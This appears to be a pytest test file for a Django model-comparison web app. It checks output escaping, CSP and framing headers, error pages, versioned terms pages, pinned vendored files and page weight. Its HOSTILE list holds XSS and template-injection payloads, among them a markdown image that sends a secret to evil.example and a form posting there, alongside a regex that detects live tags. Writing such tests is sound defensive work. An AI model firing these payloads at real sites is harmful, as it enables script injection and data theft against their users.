"""Operator's pages, error pages, headers, vendored files, page weight, and hostile text in every place that shows text."""

import hashlib
import re
from dataclasses import replace
from pathlib import Path

import pytest
from django.conf import settings
from django.template.loader import render_to_string

from arena import markdown, pages
from tests import factories
from tests.arena.views_help import Person, url
from tests.factories import outcome

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("valkey")]

VENDOR = [settings.BASE_DIR / "static" / "vendor", settings.BASE_DIR / "tests" / "e2e" / "vendor"]
PAGES = ["/", "/me/", "/datasets", "/terms", "/privacy", "/about", "/nothing-here"]
HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>",
    "[x](javascript:alert(1)) [y](data:text/html,<script>1</script>)",
    "![leak](https://evil.example/?q=secret)",
    "$\\href{javascript:alert(1)}{x}$ $\\includegraphics{https://evil.example/}$",
    "<form action=https://evil.example><button hx-post=/battles/ hx-trigger=load>",
    '"><iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "</textarea></script><style>*{display:none}</style><meta http-equiv=refresh content=0>",
    "{{ settings.SECRET_KEY }}{% csrf_token %}",
]
LIVE = re.compile(
    r"<(?:script(?! src=\"/static/)|img|iframe|form action=https|object|embed|style|svg onload)|\son\w+=|javascript:|hx-trigger",
    re.IGNORECASE,
)


def body(response) -> str:
    return response.content.decode()


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_stays_text(text: str) -> None:
    """S9: as a prompt (escaped), as an answer (made safe by the renderer), in the history, and in a refusal's copy."""
    person = Person()
    answer = outcome(text)
    answer = replace(answer, html=markdown.render(text))
    battle = factories.finish(factories.started(person.visitor, prompt=f"{text} please"), answer, answer)
    for page in (person.get(url(battle)), person.get("/me/"), person.start(prompt=text, key="broken")):
        html = re.sub(r"&lt;.*?(?=<)", "", body(page), flags=re.DOTALL)  # escaped text is text
        tags = "".join(re.findall(r"<[^>]*>", html))
        assert not LIVE.search(tags), LIVE.search(tags)
        assert settings.SECRET_KEY not in body(page)


@pytest.mark.parametrize("path", PAGES)
def test_no_inline_script_or_style_and_nothing_from_elsewhere(path: str) -> None:
    response = Person().get(path)
    html = body(response)
    assert not re.search(r"<script(?![^>]*\ssrc=)", html)
    assert not re.search(r"\sstyle=|<style|\son[a-z]+=", html)
    assert not re.search(r"(?:src|<link[^>]*href)=\"(?:https?:)?//", html)
    policy = response["Content-Security-Policy"]
    assert "default-src 'none'" in policy and "unsafe" not in policy
    assert response["X-Content-Type-Options"] == "nosniff" and response["X-Frame-Options"] == "DENY"


def test_the_operators_pages_are_versioned() -> None:
    pages.publish("terms", "# First\n\nBe kind.")
    old = pages.current("terms").number
    pages.publish("terms", "Be **very** kind.")
    person = Person(agreed=False)
    assert "<strong>very</strong>" in body(person.get("/terms"))
    assert "Be kind." in body(person.get(f"/terms?version={old}"))
    assert person.get("/terms?version=999").status_code == 404
    assert person.get("/terms?version=x").status_code == 200


def test_new_terms_are_asked_for_again() -> None:
    person = Person()
    assert 'name="agree_terms"' not in body(person.get("/"))
    pages.publish("terms", "Something new.")
    assert 'name="agree_terms"' in body(person.get("/"))


def test_errors_have_pages_in_words() -> None:
    person = Person()
    assert "Nothing is here" in body(person.get("/no/such/page"))
    response = person.post("/battles/", prompt="x" * (settings.DATA_UPLOAD_MAX_MEMORY_SIZE + 10))
    assert response.status_code == 413 and "Too much text" in body(response)


def test_a_broken_view_shows_no_traceback(monkeypatch) -> None:
    from arena.views import pages as views

    def broken(*_args, **_kwargs):
        raise RuntimeError("secret detail /etc/agon")

    monkeypatch.setattr(views, "render", broken)
    response = Person().get("/about")
    assert response.status_code == 500
    assert "Something broke on our side" in body(response) and "secret detail" not in body(response)


@pytest.mark.parametrize("status", [400, 403, 404, 410, 413, 429, 500, 503])
def test_every_error_page_renders_without_a_request(status: int) -> None:
    from arena.views.errors import _words

    title, advice = _words(status)
    html = render_to_string("errors/error.html", {"status": status, "title": title, "advice": advice})
    assert title in html and advice in html and "!" not in advice


@pytest.mark.parametrize("folder", VENDOR, ids=["static", "tests"])
def test_vendored_files_are_what_was_pinned(folder: Path) -> None:
    lines = (folder / "SHA256SUMS").read_text().splitlines()
    pinned = {name.removeprefix("./"): digest for digest, name in (line.split(maxsplit=1) for line in lines)}
    present = {str(p.relative_to(folder)) for p in folder.rglob("*") if p.is_file()} - {"SHA256SUMS", "README.md"}
    assert present == set(pinned)
    for name, digest in pinned.items():
        assert hashlib.sha256((folder / name).read_bytes()).hexdigest() == digest, name
    assert all(list(package.rglob("LICENSE*")) for package in folder.iterdir() if package.is_dir())


@pytest.mark.parametrize("kind", ["start", "battle"])
def test_a_page_weighs_less_than_150_kb(kind: str) -> None:
    """Everything a first visit loads, uncompressed, without fonts and KaTeX (which waits for a formula)."""
    person = Person()
    html = body(person.get("/" if kind == "start" else url(person.ready())))
    assets = set(
        re.findall(r'(?:<script src|<link rel="stylesheet" href|<link rel="icon" href)="/static/([^"]+)"', html)
    )
    assert assets and not any("katex" in name for name in assets)
    weight = len(html.encode()) + sum((settings.BASE_DIR / "static" / name).stat().st_size for name in assets)
    assert weight <= 150_000, f"{weight} bytes"


def test_source_files_stay_small() -> None:
    for path in [*settings.BASE_DIR.glob("static/js/*.js"), *settings.BASE_DIR.glob("static/css/*.css")]:
        assert len(path.read_text().splitlines()) <= 300, path.name
